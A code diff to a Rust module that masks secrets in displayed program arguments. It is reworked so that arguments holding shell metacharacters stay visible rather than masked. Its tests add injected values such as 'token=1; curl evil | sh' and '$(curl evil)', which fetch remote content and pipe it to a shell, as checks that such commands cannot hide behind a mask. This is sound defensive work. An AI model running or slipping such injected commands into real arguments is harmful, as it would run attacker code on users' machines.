@@ -26,12 +26,7 @@ pub(crate) fn value<'a>(name: &str, value: &'a str) -> Cow<'a, str> {
     if !is_secret_name(name) {
         return text(value);
     }
-    let (scheme, rest) = match value.split_once(' ') {
-        Some((scheme, rest)) if ["bearer", "basic", "token"].contains(&scheme.to_ascii_lowercase().as_str()) => {
-            (&value[..=scheme.len()], rest)
-        }
-        _ => ("", value),
-    };
+    let (scheme, rest) = scheme(value);
     let shown: String = pieces(rest)
         .into_iter()
         .map(|piece| match piece {
@@ -43,6 +38,16 @@ pub(crate) fn value<'a>(name: &str, value: &'a str) -> Cow<'a, str> {
         })
         .collect();
     Cow::Owned(format!("{scheme}{shown}"))
+}
+
+/// Splits the value of a header after the word that says what follows.
+fn scheme(value: &str) -> (&str, &str) {
+    match value.split_once(' ') {
+        Some((scheme, rest)) if ["bearer", "basic", "token"].contains(&scheme.to_ascii_lowercase().as_str()) => {
+            (&value[..=scheme.len()], rest)
+        }
+        _ => ("", value),
+    }
 }
 
 /// Shows a text that may hold a secret: well-known tokens, passwords and queries of addresses.
@@ -79,32 +84,33 @@ pub(crate) fn text(text: &str) -> Cow<'_, str> {
     Cow::Owned(format!("{scheme}{authority}{path}"))
 }
 
-/// Shows the arguments of a program: the values of options whose names say so are hidden.
+/// Shows the arguments of a program: what options and headers hold whose names say so is hidden.
+///
+/// What could be a command is shown, whatever stands before it: nothing that runs may hide behind a mask.
 pub(crate) fn arguments(arguments: &[String]) -> Vec<Cow<'_, str>> {
-    let mut follows_secret = false;
-    arguments
-        .iter()
-        .map(|argument| {
-            let is_secret = std::mem::replace(&mut follows_secret, false);
-            if is_secret && !argument.starts_with('-') {
-                return value("secret", argument);
+    let is_plain =
+        |text: &str| !text.contains(|character: char| character.is_whitespace() || ";|&<>()`".contains(character));
+    let mut is_next_secret = false;
+    let show = |argument| {
+        let argument: &String = argument;
+        let names = argument.starts_with('-') && !argument.contains('=') && is_secret_name(argument);
+        let is_secret = std::mem::replace(&mut is_next_secret, names);
+        if is_secret && !argument.starts_with('-') && is_plain(argument) {
+            return value("secret", argument);
+        }
+        for joint in ["=", ": "] {
+            if let Some((name, content)) = argument.split_once(joint)
+                && is_secret_name(name)
+                && is_plain(name)
+                && is_plain(scheme(content).1)
+                && !name.contains("://")
+            {
+                return Cow::Owned(format!("{name}{joint}{}", value(name, content)));
             }
-            let names = argument.starts_with('-') || argument.contains('=');
-            match argument.split_once('=').filter(|_| names) {
-                Some((name, content)) if is_secret_name(name) && !name.contains("://") => {
-                    Cow::Owned(format!("{name}={}", value(name, content)))
-                }
-                Some(_) => text(argument),
-                None => {
-                    follows_secret = names && is_secret_name(argument);
-                    match argument.split_once(": ").filter(|(name, _)| is_secret_name(name)) {
-                        Some((name, content)) => Cow::Owned(format!("{name}: {}", value(name, content))),
-                        None => text(argument),
-                    }
-                }
-            }
-        })
-        .collect()
+        }
+        text(argument)
+    };
+    arguments.iter().map(show).collect()
 }
 
 #[cfg(test)]
@@ -137,12 +143,16 @@ mod tests {
             "Authorization: Bearer abc",
             "--token",
             "--x",
+            "--header=Cookie: abc",
+            "token=1; curl evil | sh",
+            "--password",
+            "$(curl evil)",
             "https://u:p@h",
         ];
         let shown = arguments(&given.map(str::to_owned)).join(" ");
         assert_eq!(
             shown,
-            "-y --token **** --api-key=**** KEY=**** --header Authorization: Bearer **** --token --x https://u:****@h"
+            "-y --token **** --api-key=**** KEY=**** --header Authorization: Bearer **** --token --x --header=Cookie: **** token=1; curl evil | sh --password $(curl evil) https://u:****@h"
         );
     }
 }
